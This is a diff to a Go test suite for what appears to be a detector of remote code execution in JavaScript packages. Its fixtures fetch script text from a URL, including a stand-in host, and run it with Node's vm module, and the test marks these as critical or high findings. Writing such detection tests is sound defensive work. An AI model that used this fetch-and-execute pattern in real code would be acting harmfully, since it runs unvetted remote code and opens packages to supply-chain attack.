@@ -25,7 +25,10 @@ func TestRemoteEval(t *testing.T) {
 		// downloads; the same wrapper around a local file (a test runner)
 		{"cjs_wrapper_fetched_by_module", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
 			"fetcher.js": `exports.get = async (u) => (await fetch(u)).text()`,
-			"index.js":   "const vm = require(\"vm\"), { get } = require(\"./fetcher\"); exports.load = async (u) => { const text = await get(u); const fn = vm.runInThisContext(`(function (module, exports, require) {\\n${text}\\n})`); const m = { exports: {} }; fn(m, m.exports, require); return m.exports }"}, finding.SeverityCritical},
+			"index.js":   "const vm = require(\"vm\"), { get } = require(\"./fetcher\"); const INDEX = \"https://c.example.invalid/presets/index.js\"; exports.load = async (u = INDEX) => { const text = await get(u); const fn = vm.runInThisContext(`(function (module, exports, require) {\\n${text}\\n})`); const m = { exports: {} }; fn(m, m.exports, require); return m.exports }"}, finding.SeverityCritical},
+		// a module federation runtime: the remote entry it is handed,
+		// fetched and wrapped in the same file
+		{"cjs_wrapper_given_address", map[string]string{"index.js": "const vm = require(\"vm\"); exports.fallback = (u) => fetch(u); exports.load = async (f, url) => { const data = await (await f(url)).text(); const s = new vm.Script(`(function(exports, module, require) {${data}\\n})`); const m = { exports: {} }; s.runInThisContext()(m.exports, m, require); return m.exports }"}, finding.SeverityHigh},
 		{"cjs_wrapper_local_file", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
 			"paths.js": `exports.resolve = (p) => require("path").resolve(p)`,
 			"index.js": "const vm = require(\"vm\"), fs = require(\"fs\"), { resolve } = require(\"./paths\"); exports.load = (p) => { const text = fs.readFileSync(resolve(p), \"utf8\"); const fn = vm.runInThisContext(`(function (module, exports, require) {\\n${text}\\n})`); const m = { exports: {} }; fn(m, m.exports, require); return m.exports }"}, finding.SeverityNone},
